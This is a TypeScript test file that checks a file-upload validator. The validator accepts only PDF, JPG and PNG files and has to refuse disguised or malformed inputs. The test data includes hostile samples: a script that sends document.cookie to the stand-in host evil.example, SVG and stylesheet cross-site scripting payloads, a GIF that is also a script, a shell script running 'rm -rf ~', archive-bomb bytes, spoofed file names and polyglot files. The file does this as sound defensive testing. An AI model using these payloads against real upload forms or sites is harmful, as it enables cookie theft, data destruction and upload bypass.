import { deflateSync, gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { AppError } from "#server/app-error.ts";
import { chunk, jpeg, jpegWith, pdf, png, pngWith, segment } from "#server/test/sample-files.ts";
import { acceptedFile } from "./accepted-file.ts";

const bytesOf = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string, "latin1")));
const page = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";
const svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>";
/** The container of office documents, Java programs and archive bombs. */
const zip = bytesOf(
  `PK\u0003\u0004${"\0".repeat(26)}x`,
  "PK\u0001\u0002",
  `PK\u0005\u0006${"\0".repeat(18)}`,
);
const zeros = "\0".repeat(1_100);
const signature = png.subarray(0, 8);

/** The PNG with a claimed size. */
const pngOf = (width: number, height: number) => {
  const header = Buffer.from(png.subarray(16, 29));
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return bytesOf(signature, chunk("IHDR", header), png.subarray(33));
};

/** The JPEG with a claimed size. */
const jpegOf = (width: number, height: number) => {
  const sized = Buffer.from(jpeg);
  const frame = sized.indexOf(Buffer.from("ffc0", "hex"));
  sized.writeUInt16BE(height, frame + 5);
  sized.writeUInt16BE(width, frame + 7);
  return sized;
};

/** Other formats, each sent with every accepted ending. */
const foreign: [what: string, bytes: Buffer][] = [
  ["a page", bytesOf(page)],
  ["a page after a byte order mark", bytesOf("\xef\xbb\xbf", page)],
  ["a page in UTF-16", Buffer.from(`\ufeff${page}`, "utf16le")],
  ["a drawing", bytesOf("<?xml version='1.0'?>", svg)],
  ["a compressed drawing", gzipSync(svg)],
  ["a style sheet for XML", bytesOf("<?xml-stylesheet href='javascript:alert(1)'?><x/>")],
  ["a stored mail", bytesOf("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n", page)],
  ["an archive", zip],
  ["an archive of ten million zeros", bytesOf(zip, deflateSync(Buffer.alloc(10_000_000)))],
  ["an old office document", Buffer.from("d0cf11e0a1b11ae1", "hex")],
  ["rich text", bytesOf("{\\rtf1\\ansi}")],
  ["PostScript", bytesOf("%!PS-Adobe-3.0\n%%EOF")],
  ["a program for Windows", bytesOf("MZ\u0090\0PE\0\0")],
  ["a program for Linux", bytesOf("\x7fELF\u0002\u0001\u0001")],
  ["a program for a Mac", Buffer.from("cffaedfe07000001", "hex")],
  ["a program for Java", Buffer.from("cafebabe00000034", "hex")],
  ["a program for the Web", bytesOf("\0asm\u0001\0\0\0")],
  ["a shell script", bytesOf("#!/bin/sh\nrm -rf ~\n")],
  ["a film for Flash", bytesOf("CWS\u0009")],
  ["a GIF that is a script", bytesOf("GIF89a/*", zeros, "*/=alert(1)")],
  ["a bitmap", bytesOf("BM", zeros)],
  ["a TIFF", bytesOf("II*\0", zeros)],
  ["a WebP", bytesOf("RIFF\0\0\0\0WEBPVP8 ")],
  ["a HEIC", bytesOf("\0\0\0\u0018ftypheic")],
  ["a JPEG 2000", Buffer.from("0000000c6a5020200d0a870a", "hex")],
  ["zeros", Buffer.alloc(4_096)],
];

const refuse = (bytes: Buffer, name: string) => {
  try {
    acceptedFile(bytes, name);
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    return (error as AppError).fields;
  }
  return "accepted";
};
const refusal = { File: "Only PDF, JPG and PNG files are allowed" };
/** Any sentence about its content; `accepted-file.test.ts` has which. */
const isRefused = {
  File: expect.stringMatching(
    /^(Only PDF, JPG and PNG|This file is damaged|This is an? \w+ picture)/,
  ),
};

test.each(foreign)("%s is refused under every name that is accepted", (_, bytes) => {
  for (const ending of ["pdf", "jpg", "jpeg", "png"])
    expect([ending, refuse(bytes, `id.${ending}`)]).toEqual([ending, isRefused]);
});

test.each([
  ["id.html"],
  ["id.svg"],
  ["id.pdf.html"],
  ["id.pdf."],
  ["id.pdf "],
  ["id.pdf\0.html"],
  ["id.pdf::$DATA"],
  ["id.pdf/x"],
  ["id.\u0440df"],
  ["id.p\u200bdf"],
  ["id.fdp\u202e"],
  ["id.pdf;.js"],
  ["id"],
  [""],
])("a PDF named %j is refused", (name) => {
  expect(refuse(pdf, name)).toEqual(refusal);
});

test.each([
  ["a PDF after a page", bytesOf(page, pdf), "id.pdf"],
  ["a PDF after a program's first bytes", bytesOf("MZ", pdf), "id.pdf"],
  ["a PDF after a script's first line", bytesOf("#!/bin/sh\n", pdf), "id.pdf"],
  ["a PDF after a GIF's first bytes", bytesOf("GIF89a", pdf), "id.pdf"],
  ["a PDF after a picture", bytesOf(jpeg, pdf), "id.pdf"],
  ["a PDF of no version", bytesOf("%PDF-", pdf.subarray(8)), "id.pdf"],
  ["a PDF of a version that never was", bytesOf("%PDF-9.9", pdf.subarray(8)), "id.pdf"],
  ["a PDF without its end", bytesOf(pdf.toString("latin1").replace("%%EOF", "")), "id.pdf"],
  ["a PDF with a program after its end", bytesOf(pdf, "MZ\u0090\0"), "id.pdf"],
  ["a PDF with a drawing after its end", bytesOf(pdf, svg), "id.pdf"],
  ["a PDF whose end is far behind", bytesOf(pdf, zeros), "id.pdf"],
  ["a PDF that is an archive, too", bytesOf(pdf.subarray(0, -6), zip, "%%EOF\n", zip), "id.pdf"],
  ["a picture that is a PDF after its end, named as one", bytesOf(png, pdf), "id.pdf"],
  ["a JPEG after a page", bytesOf(page, jpeg), "id.jpg"],
  ["a JPEG of fill bytes alone", bytesOf("\xff\xd8", Buffer.alloc(5_000, 0xff)), "id.jpg"],
  ["a JPEG with a segment of no length", jpegWith(Buffer.from("ffe10000", "hex")), "id.jpg"],
  ["a JPEG with a segment longer than itself", jpegWith(Buffer.from("ffe1ffff", "hex")), "id.jpg"],
  ["a JPEG of a comment alone", bytesOf("\xff\xd8", segment(0xfe, page), "\xff\xd9"), "id.jpg"],
  ["a JPEG of no width", jpegOf(0, 100), "id.jpg"],
  ["a PNG after a page", bytesOf(page, png), "id.png"],
  ["a PNG that was sent as text", bytesOf("\x89PNG\n\x1a\n", png.subarray(8)), "id.png"],
  ["a PNG of its first bytes alone", signature, "id.png"],
  [
    "a PNG that begins with a text",
    bytesOf(signature, chunk("tEXt", page), png.subarray(8)),
    "id.png",
  ],
  ["a PNG without its image", bytesOf(png.subarray(0, 33), chunk("IEND")), "id.png"],
  [
    "a PNG of 25,000 empty chunks",
    pngWith(...Array.from({ length: 25_000 }, () => chunk("tEXt"))),
    "id.png",
  ],
  ["a PNG of no height", pngOf(100, 0), "id.png"],
  [
    "a PNG with a header too short",
    bytesOf(signature, chunk("IHDR", "\0\0"), png.subarray(33)),
    "id.png",
  ],
])("%s is refused", (_, bytes, name) => {
  expect(refuse(bytes, name)).toEqual(isRefused);
});

const tooLarge = "An image may have at most 50 megapixels, and 12,000 pixels on a side";

test.each([
  [15_000, 15_000],
  [7_100, 7_100],
  [12_001, 1],
  [1, 12_001],
  [65_535, 65_535],
])("an image of %i by %i pixels is refused, saying why", (width, height) => {
  for (const [bytes, name] of [
    [jpegOf(width, height), "id.jpg"],
    [pngOf(width, height), "id.png"],
  ] as const)
    expect([name, refuse(bytes, name)]).toEqual([name, { File: tooLarge }]);
});

test("a PNG that claims more than any has is refused", () => {
  expect(refuse(pngOf(0xffffffff, 0xffffffff), "id.png")).toEqual({ File: tooLarge });
});

test.each([
  ["a scan of a page at 600 dots an inch", 4_961, 7_016],
  ["a photo of 50 megapixels", 8_192, 6_103],
  ["a screenshot of a long page", 1_200, 12_000],
])("%s is accepted", (_, width, height) => {
  expect(refuse(jpegOf(width, height), "id.jpg")).toBe("accepted");
  expect(refuse(pngOf(width, height), "id.png")).toBe("accepted");
});
